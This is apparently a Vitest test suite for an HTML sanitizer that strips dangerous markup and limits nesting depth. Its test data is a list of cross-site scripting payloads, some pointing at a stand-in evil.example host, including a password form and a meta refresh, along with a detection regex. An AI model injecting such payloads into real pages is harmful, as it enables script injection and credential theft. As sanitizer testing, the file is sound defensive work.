import { htmlPictureProblems } from '@shared/content/picture-checks';
import { describe, expect, it } from 'vitest';
import { cleanHtml, isTooDeep } from './clean-html';

/** What must never leave the server inside a block, whatever surrounds it. */
const dangerous =
  /<\s*(script|style|iframe|object|embed|svg|math|base|meta|link|form|input|button|textarea|template|noscript)|\son\w+\s*=|javascript:|vbscript:|data:|srcdoc|<!--/i;

const attacks: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in odd case', '<ScRiPt src=//evil.example></sCrIpT>'],
  ['a script split by another', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['an event handler', '<img src="/a.png" onerror="alert(1)">'],
  ['an event handler behind a slash', '<p/onclick=alert(1)>x</p>'],
  ['an event handler over lines', '<p\nonmouseover\n=\n"alert(1)">x</p>'],
  ['a javascript: address', '<a href="javascript:alert(1)">x</a>'],
  ['a javascript: address in entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
  ['a javascript: address with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['a javascript: address with a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['a data: address', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a data: image', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
  ['a vbscript: address', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a frame with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="/x.swf"><embed src="/x.swf"></object>'],
  ['an SVG with a script', '<svg><script>alert(1)</script></svg>'],
  ['an SVG with an animation', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'],
  ['an SVG use', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
  ['MathML', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a form', '<form action="https://evil.example"><input name=password><button>Los</button></form>'],
  ['a style', '<style>@import "https://evil.example";</style>'],
  ['a link element', '<link rel="stylesheet" href="https://evil.example/a.css">'],
  ['a comment that hides a tag', '<!--><img src=x onerror=alert(1)>-->'],
  ['a noscript trick', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['an end of the embedded state', '</script><script>alert(1)</script>'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['an unfinished tag', '<img src="/a.png" onerror=alert(1)//'],
];

describe('cleanHtml', () => {
  it.each(attacks)('removes %s', (_what, html) => {
    const cleaned = cleanHtml(`<p>vorher</p>${html}<p>nachher</p>`);
    expect(cleaned).not.toMatch(dangerous);
    expect(cleaned).toContain('<p>vorher</p>');
    expect(cleanHtml(cleaned)).toBe(cleaned);
  });

  it.each([
    ['<p>Hallo&#3;&#x0B;&#x1F;&#27;&#xFFFE;&#65535;Welt</p>', '<p>HalloWelt</p>'],
    ['<p>a\u0003b\ufffec</p>', '<p>abc</p>'],
    ['<img src="/media/1" alt="a&#x1f;b">', '<img src="/media/1" alt="ab" loading="lazy" />'],
    ['<a href="java&#xfffe;script:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="java\uffffscript:alert(1)">x</a>', '<a>x</a>'],
    ['<p>&amp;#3; &#&#3;3;</p>', '<p>&amp;#3; &amp;#3;</p>'],
  ])('removes what cannot be stored, after it has read it: %j', (html, expected) => {
    expect(cleanHtml(html)).toBe(expected);
    expect(cleanHtml(expected)).toBe(expected);
  });

  // The HTML standard (13.2.5) lets a slash or an attribute stand in an end tag.
  const endTags = ['', '/', ' ', ' /', '\t', '\n', ' x', '/x="y"'];
  const textElements = ['script', 'style', 'textarea', 'title', 'option', 'xmp', 'noscript', 'iframe'];

  it.each(textElements)('keeps the text behind a <%s>, however its end tag is written', (tag) => {
    for (const end of endTags) {
      const html = `<p>vorher</p><${tag}>x</${tag}${end}><p>nachher</p>`;
      const cleaned = cleanHtml(html);
      expect(cleaned, html).toMatch(/^<p>vorher<\/p>x?<p>nachher<\/p>$/);
      expect(cleanHtml(cleaned), html).toBe(cleaned);
    }
  });

  it.each(['https://evil.example/a.png', '//evil.example/a.png', '/\\evil.example/a.png', 'a.png', ''])(
    'removes an image from another site: %s',
    (src) => {
      expect(cleanHtml(`<p>a</p><img src="${src}" alt="x">`)).toBe('<p>a</p>');
    },
  );

  it.each(['//evil.example', '/\\evil.example', '\\\\evil.example'])('removes the address of a link to %s', (href) => {
    expect(cleanHtml(`<a href="${href}">x</a>`)).toBe('<a>x</a>');
  });

  it('keeps of a table its caption, rows, scopes and small spans alone', () => {
    const html =
      '<table border="1" onclick="alert(1)"><caption align="top">Preise</caption><colgroup><col width="64"></colgroup><thead><tr bgcolor="red"><th scope="col" onmouseover="alert(1)" colspan="2">A</th><th scope="x" rowspan="65534">B</th></tr></thead><tbody background="/x.png"><tr><td colspan="1000" headers="x" style="position:fixed">a</td><td rowspan="-1">b</td><td colspan="02">c</td></tr></tbody></table>';
    const cleaned = cleanHtml(html);
    expect(cleaned).toBe(
      '<table><caption>Preise</caption><thead><tr><th scope="col" colspan="2">A</th><th>B</th></tr></thead><tbody><tr><td>a</td><td>b</td><td colspan="2">c</td></tr></tbody></table>',
    );
    expect(cleanHtml(cleaned)).toBe(cleaned);
  });

  it('removes styles, classes and ids', () => {
    expect(cleanHtml('<p style="position:fixed" class="bar" id="login">x</p>')).toBe('<p>x</p>');
  });

  it('keeps the structure of a text, its links, tables, languages and own images', () => {
    const html =
      '<h2>Titel</h2><p lang="en">Text <strong>wichtig</strong><br />neu</p><ul><li><a href="/about#a">wir</a></li><li><a href="mailto:a@b.example">Post</a></li></ul><table><tbody><tr><th scope="row">A</th><td colspan="2">B</td></tr></tbody></table>';
    expect(cleanHtml(html)).toBe(html);
    expect(cleanHtml('<img src="/bild.svg" alt="Bild">')).toBe('<img src="/bild.svg" alt="Bild" loading="lazy" />');
  });

  it.each(['/bild.svg', '/media/1'])('tells a picture without a description from a decorative one: %s', (src) => {
    const silent = cleanHtml(`<img src="${src}">`);
    const decorative = cleanHtml(`<img src="${src}" alt="">`);
    expect(silent).toBe(`<img src="${src}" loading="lazy" />`);
    expect(decorative).toBe(`<img src="${src}" alt="" loading="lazy" />`);
    const known = new Map([[1, { id: 1, alt: null, decorative: false, translations: {}, deleted: false }]]);
    expect(htmlPictureProblems(silent, 'content', known)).toMatchObject([{ kind: 'altMissing', field: 'content' }]);
    expect(htmlPictureProblems(decorative, 'content', known)).toEqual([]);
  });

  it('turns a link to http into one to https', () => {
    const kept = '<a href="https://a.example/?b=1" rel="noopener noreferrer">x</a>';
    for (const scheme of ['http', 'HTTP', 'https'])
      expect(cleanHtml(`<a href="${scheme}://a.example/?b=1">x</a>`)).toBe(kept);
  });

  it('gives a link to another site no access to its opener', () => {
    expect(cleanHtml('<a href="https://a.example" rel="opener" target="_blank">x</a>')).toBe(
      '<a href="https://a.example" rel="noopener noreferrer">x</a>',
    );
  });

  it.each([
    ['<ol start="3"><li>c</li></ol>', '<ol start="3"><li>c</li></ol>'],
    ['<ol start="0"><li>a</li></ol>', '<ol start="0"><li>a</li></ol>'],
    ['<ol start=" 012 "><li>l</li></ol>', '<ol start="12"><li>l</li></ol>'],
    ...['1', '', '-1', '1e3', '99999', '3"onclick="x'].map((start) => [
      `<ol start='${start}'><li>a</li></ol>`,
      '<ol><li>a</li></ol>',
    ]),
    ['<ul start="3"><li>a</li></ul>', '<ul><li>a</li></ul>'],
  ])('keeps the start number of an ordered list: %s', (html, cleaned) => {
    expect(cleanHtml(html)).toBe(cleaned);
    expect(cleanHtml(cleaned ?? '')).toBe(cleaned);
  });

  it.each(['s', 'del', 'strike'])('keeps text that <%s> strikes through', (tag) => {
    expect(cleanHtml(`<p><${tag}>10 €</${tag}> 8 €</p>`)).toBe('<p><s>10 €</s> 8 €</p>');
  });

  it('turns h1 into h2', () => {
    expect(cleanHtml('<h1>Titel</h1>')).toBe('<h2>Titel</h2>');
  });

  const nested = (levels: number, tag = 'b') => `${`<${tag}>`.repeat(levels)}x${`</${tag}>`.repeat(levels)}`;

  it('keeps 64 levels of nesting, and nothing of deeper HTML', () => {
    expect(isTooDeep(nested(64))).toBe(false);
    expect(cleanHtml(nested(64))).toEqual(nested(64));
    expect(isTooDeep(nested(65))).toBe(true);
    expect(cleanHtml(nested(65))).toBe('');
  });

  it.each(['b', 'div', 'x-unknown', 'blockquote'])('stops early in 33,000 nested <%s>', (tag) => {
    for (const html of [`<${tag}>`.repeat(33_000), nested(33_000, tag)]) {
      const start = process.cpuUsage();
      expect(isTooDeep(html)).toBe(true);
      expect(cleanHtml(html)).toBe('');
      const { user, system } = process.cpuUsage(start);
      // Microseconds of the processor, which others on the machine do not lengthen; to clean it all takes a second.
      expect(user + system).toBeLessThan(200_000);
    }
  });

  it('treats elements without end tags as siblings, as browsers do', () => {
    expect(isTooDeep('<p>a<p>b<ul><li>1<li>2</ul><br><img src="/a.png"><hr>'.repeat(300))).toBe(false);
    expect(isTooDeep(`<table>${'<tr><td>1<td>2'.repeat(300)}</table>`)).toBe(false);
  });
});
